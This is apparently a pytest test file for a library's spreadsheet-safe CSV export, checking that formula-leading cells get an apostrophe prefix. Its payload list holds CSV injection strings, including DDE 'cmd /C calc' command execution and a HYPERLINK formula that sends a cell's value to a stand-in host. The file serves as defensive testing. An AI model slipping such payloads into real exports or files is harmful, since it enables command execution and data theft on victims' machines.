"""Exports safe to open in a spreadsheet (issue 20, item 1).

What a spreadsheet does with a cell is modelled here on its own (``evaluated``, ``shown``), from OWASP's "CSV
Injection" page, not with irlab's rule: a cell runs as a formula when its first character is a tab or a carriage
return, or its first visible one is = + - @ (or their full-width forms), unless it is a plain number; a leading
apostrophe makes the rest text, shown without the apostrophe. Each export is read back as a spreadsheet reads it,
with a comma, a semicolon (decimal-comma locales) and a tab as the separator.
"""

import csv
import io
import re

import pytest
from hypothesis import given, settings, strategies as st

from irlab import spreadsheet
from irlab.solvers.pooling import TrecPool
from irlab.trec import evaluate, format_csv

PAYLOADS = ['=HYPERLINK("http://x/?"&A1,"x")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+A1",
            "-1+2", "-2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", " =1+2", "\n@x", "\uff1d1+1", "=1+2;=3", "-1/3"]

# a plain number, written independently of irlab's pattern: [sign] digits [. digits] [e [sign] digits]
_PLAIN_NUMBER = re.compile(r" *[-+]?([0-9]+[.]?[0-9]*|[.][0-9]+)([eE][-+]?[0-9]+)? *")
_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet that evaluates formulas would run this cell as one."""
    if cell.startswith("'") or _PLAIN_NUMBER.fullmatch(cell):
        return False
    if cell[:1] in ("\t", "\r"):
        return True
    visible = cell.lstrip(" \t\r\n\x0b\x0c\x00\x1c\x1d\x1e\x1f\x85\xa0")
    return visible.startswith(_STARTS)


def shown(cell: str) -> str:
    """The text a spreadsheet shows for a cell it reads as text."""
    return cell[1:] if cell.startswith("'") else cell


def unmarked(text: str) -> str:
    """The text without an apostrophe at its start or right after a ';', tab or line break: the only places where
    irlab may add one, so a cell and the text it was made from agree on this and on every other character."""
    return shown(re.sub(r"(?<=[;\t\r\n])'", "", text))


def read_as(text: str, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def assert_no_formula(text: str) -> None:
    for separator in (",", ";", "\t"):
        for row in read_as(text, separator):
            bad = [cell for cell in row if evaluated(cell)]
            assert not bad, (separator, bad)


# the rule --------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_prefixed(payload):
    assert evaluated(payload)
    cell = spreadsheet.safe_cell(payload)
    assert cell.startswith("'") and not evaluated(cell) and unmarked(cell) == unmarked(payload)
    assert cell == "'" + payload or "\n" in payload or ";" in payload or payload.startswith(("\t", "\r"))


@pytest.mark.parametrize("value", ["-0.5", "3", "1e-05", " -0.5", "+2", "-0", -0.5, 3, 0, 2.5])
def test_a_number_stays_a_number(value):
    assert spreadsheet.safe_cell(value) == value
    out = io.StringIO()
    spreadsheet.writer(out).writerow([value, "x"])
    assert out.getvalue() == f"{value},x\n"


@pytest.mark.parametrize("text", ["Ann Lee", "ann@example.org", "0.2; 0.5; 0.2857", "", "s1", "'=quoted", "a-b+c"])
def test_ordinary_text_is_unchanged(text):
    assert spreadsheet.safe_cell(text) == text


def test_a_separator_inside_a_cell_cannot_start_a_formula_cell():
    # a spreadsheet splitting this comma-separated file at ';' (a decimal-comma locale), at tabs, or at line breaks
    # without honouring quotes would start a cell after each of them
    out = io.StringIO()
    spreadsheet.writer(out).writerows([["x", "0.5;=1+2", "a\tb\t@SUM(A1)", "0.2; -0.5", "x\r=1+2", "y\n+A1", "0.2; 0.5"]])
    assert out.getvalue() == ("x,0.5;'=1+2,a\tb\t'@SUM(A1),0.2;' -0.5,\"x\r'=1+2\",\"y\n'+A1\",0.2; 0.5\n")
    assert_no_formula(out.getvalue())
    assert read_as(out.getvalue(), ",") == [["x", "0.5;'=1+2", "a\tb\t'@SUM(A1)", "0.2;' -0.5", "x\r'=1+2", "y\n'+A1",
                                             "0.2; 0.5"]]
    assert spreadsheet.safe_cell("\t=1") == "'\t'=1"


_ORDINARY = st.text(alphabet="abcXYZ019 .,;:'\"/%()\n_", max_size=12).filter(lambda text: not text.startswith("\n"))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(st.one_of(_ORDINARY, st.integers(-999, 999), st.floats(0, 1), st.none()), min_size=1,
                         max_size=6), max_size=4))
def test_ordinary_rows_are_written_as_csv_writer_writes_them(rows):
    ours, theirs = io.StringIO(), io.StringIO()
    spreadsheet.writer(ours).writerows(rows)
    csv.writer(theirs, lineterminator="\n").writerows(rows)
    assert ours.getvalue() == theirs.getvalue()


def test_pool_and_eval_csv_are_inert(tmp_path):
    pool = TrecPool(depth=1, runs=[], pools={"=1+2": ["@SUM(A1)", "d1", "-0.5"]})
    text = pool.judging_list("csv")
    assert text == "topic,docno,relevance\n'=1+2,'@SUM(A1),\n'=1+2,d1,\n'=1+2,-0.5,\n"
    assert_no_formula(text)
    (tmp_path / "q").write_text("=1+2 0 @d1 1\n=1+2 0 d2 0\n")
    (tmp_path / "r").write_text("=1+2 Q0 @d1 1 2.0 =cmd|'/C\n=1+2 Q0 d2 2 1.0 =cmd|'/C\n")
    result = evaluate(tmp_path / "q", tmp_path / "r", ["runid", "map"])
    text = format_csv(result, per_topic=True)
    assert text == "measure,topic,value\nmap,'=1+2,1.0\nrunid,all,'=cmd|'/C\nmap,all,1.0\n"
    assert_no_formula(text)
